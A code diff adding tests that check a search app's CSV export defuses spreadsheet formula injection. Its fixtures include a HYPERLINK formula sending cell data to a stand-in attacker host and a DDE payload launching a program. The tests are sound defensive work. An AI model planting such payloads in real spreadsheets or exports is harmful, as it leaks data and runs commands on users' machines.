@@ -96,3 +96,54 @@ def test_exports_stream_all_results_not_one_page(client):
 def test_autocomplete(client):
     data = client.get("/api/suggest?q=stake").get_json()
     assert any(s["text"] == "stakeholders" for s in data["suggestions"])
+
+
+def test_csv_export_neutralises_formulas(tmp_path):
+    """A title such as =HYPERLINK(…) must reach a spreadsheet as text, not as a formula."""
+    import csv
+    import io
+
+    from indexer.config import Settings
+    from indexer.pipeline import run_index
+    from tests.factories import TEXTS, make_text
+    from webapp import create_app
+
+    titles = [
+        '=HYPERLINK("http://attacker.example/?x="&A1,"Open")',
+        "+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(A1:A9)",
+        "\tTabbed title",
+        "\rCarriage title",
+        "Ordinary = title",
+    ]
+    docs = tmp_path / "docs"
+    rows = ["path,title"]
+    for n, title in enumerate(titles):
+        make_text(docs / f"doc{n}.txt", TEXTS["en"])
+        rows.append(f'doc{n}.txt,"{title.replace(chr(34), chr(34) * 2)}"')
+    make_text(docs / "manifest.csv", "\n".join(rows) + "\n")
+    settings = Settings(home=tmp_path / "home", corpus=docs, workers=1)
+    run_index(settings)
+    client = create_app(settings).test_client()
+    text = client.get("/search/export.csv").get_data(as_text=True).lstrip("\ufeff")
+    exported = {row["path"]: row for row in csv.DictReader(io.StringIO(text))}
+    assert len(exported) == len(titles)
+    for n, title in enumerate(titles):
+        cell = exported[f"doc{n}.txt"]["title"]
+        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
+        if title[0] in "=+-@":
+            assert cell == "'" + title  # shown as typed, never run
+        else:
+            assert cell == title.strip()  # (the manifest trims spaces around cells)
+    for row in exported.values():  # numbers stay numbers
+        assert row["page_count"] == "1" and not row["score"].startswith("'")
+
+
+def test_csv_cells_with_formula_starts():
+    from webapp.views.search import csv_cell
+
+    for value in ("=1+1", "+1", "-1", "@A1", "\tx", "\rx", "\nx"):
+        assert csv_cell(value) == "'" + value
+    assert csv_cell(["-x", "y"]) == "'-x; y"
+    assert csv_cell(-3.5) == -3.5 and csv_cell(None) == "" and csv_cell("a=b") == "a=b"
